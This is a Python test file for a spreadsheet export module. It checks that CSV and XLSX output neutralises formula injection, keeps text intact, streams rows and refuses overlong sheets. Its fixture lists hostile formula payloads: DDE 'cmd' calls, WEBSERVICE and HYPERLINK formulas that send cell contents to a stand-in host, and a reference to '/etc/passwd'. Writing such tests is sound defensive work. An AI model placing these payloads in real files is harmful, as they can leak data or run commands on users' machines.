"""Lists as files: no cell is a formula, whatever is in it; every text comes back; rows are written while they are read."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lianfang.base.problems import Refused
from lianfang.ui import sheets

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"look\")",
    "=WEBSERVICE(\"http://192.0.2.1/\"&A1)", "=IMPORTXML(\"http://192.0.2.1\",\"//a\")", "=IMAGE(\"http://192.0.2.1\")",
    "='file:///etc/passwd'#$passwd.A1", "=IMPORTDATA(\"http://192.0.2.1\")", "=RTD(\"x\",,\"y\")", "=CALL(\"a\",\"b\")",
    "=EXEC(\"calc\")", "=REGISTER(\"a\")", "=1", "=", "+", "-", "@", "-2+3+cmd|' /C calc'!A0", "=A1&\"x\"", "=\"x\"",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "  +1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
    "'=1+1", "''=1+1", "' =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1;=2+2", "=1+1,\"a\"", "\"=1+1\"", ";=1+1", ",=1+1",
    "+8613800000000", "-5", "=一二", "@张三", "=\x00", "=\x0b1", "#N/A", "#REF!", "=\ud800",
)  # fmt: skip
HARMLESS = (
    "张三",
    "2020-02-12",
    "36.5",
    "a=b",
    "x@example.org",
    "粤B12345",
    "'",
    "it's",
    "",
    "100%",
    "|x",
    "%0A=1",
)


def test_there_are_formulas_of_every_sort() -> None:
    assert len(set(FORMULAS)) >= 40
    assert {text[0] for text in FORMULAS} >= set(STARTS)


def cells(rows: list[sheets.Values]) -> list[list[str]]:
    data = b"".join(sheets.csv_lines([["a"]], rows))
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]


def test_no_cell_of_a_csv_is_calculated_and_each_text_comes_back() -> None:
    found = [row[0] for row in cells([[text] for text in FORMULAS])]
    for text, cell in zip(FORMULAS, found, strict=True):
        assert not cell.lstrip(" \u00a0\u3000\u200b\ufeff").startswith(STARTS), repr(text)
        assert sheets.plain(cell) == text.replace("\ud800", "?"), repr(text)
    assert [row[0] if row else "" for row in cells([[text] for text in HARMLESS])] == list(HARMLESS)


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\n\u200bａ＝1a")))
def test_taking_the_apostrophe_away_undoes_setting_it(text: str) -> None:
    assert sheets.plain(sheets.neutral(text)) == text


def workbook(rows: list[sheets.Values]) -> bytes:
    return b"".join(sheets.workbook("清单/1", [["标题"]], rows))


def test_no_cell_of_a_workbook_is_a_formula_and_nothing_leads_out_of_it() -> None:
    data = workbook([[text] for text in FORMULAS])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not [
            name for name in archive.namelist() if "external" in name.lower() or "vba" in name.lower()
        ]
        inside = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f" not in inside.replace(b"<family", b"")
        assert b"<hyperlink" not in inside
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    found = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in found} == {"s"}
    for text, cell in zip(FORMULAS, found, strict=True):
        kept = text.replace("\x00", "\ufffd").replace("\x0b", "\ufffd").replace("\ud800", "?")
        assert cell.value == kept.replace("\r\n", "\n").replace("\r", "\n"), repr(text)
        assert cell.quotePrefix or text in HARMLESS or text[0] in '",;#', repr(text)


def test_cells_have_types() -> None:
    zone = timezone(timedelta(hours=8))
    row: list[sheets.Value] = [
        7,
        36.5,
        -5,
        date(2020, 2, 12),
        datetime(2020, 2, 12, 8, 30, 5, tzinfo=zone),
        None,
        110105194912310021,
    ]
    [found] = cells([row])
    assert found == ["7", "36.5", "-5", "2020-02-12", "2020-02-12T08:30:05+08:00", "", "110105194912310021"]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook([row]))).active
    assert sheet is not None
    read = [cell.value for cell in sheet[2]]
    assert read[:3] == [7, 36.5, -5]
    assert [str(value) for value in read[3:5]] == ["2020-02-12 00:00:00", "2020-02-12 08:30:05"]
    assert read[5:] == [None, "110105194912310021"]


def test_rows_are_written_while_they_are_read() -> None:
    taken = []

    def rows() -> Iterator[sheets.Values]:
        for number in range(20_000):
            taken.append(number)
            yield number, "一二三四五六七八九十"

    first = next(sheets.csv_lines([], rows()))
    assert 1000 < len(taken) < 10_000
    assert len(first) < 300_000


def test_a_workbook_is_written_while_its_rows_are_read() -> None:
    taken = []

    def rows() -> Iterator[sheets.Values]:
        for number in range(20_000):
            taken.append(number)
            yield number, f"{number} 一二三四五六七八九十 & <{number}>"

    pieces = sheets.workbook("x", [["a", "b"]], rows())
    first = next(pieces)
    assert 1000 < len(taken) < 15_000
    sheet = openpyxl.load_workbook(io.BytesIO(first + b"".join(pieces)), read_only=True).active
    assert sheet is not None
    read = list(sheet.iter_rows(values_only=True))
    assert (len(read), read[20_000]) == (20_001, (19_999, "19999 一二三四五六七八九十 & <19999>"))


def test_a_cell_or_a_sheet_that_is_too_long_is_not_cut_silently(monkeypatch: pytest.MonkeyPatch) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(workbook([["x" * 40_000]]))).active
    assert sheet is not None
    assert str(sheet["A2"].value).endswith("…")
    monkeypatch.setattr(sheets, "MOST_ROWS", 3)
    with pytest.raises(Refused) as refusal:
        workbook([[1], [2], [3]])
    assert refusal.value.problems[0].code == "export/too-long"
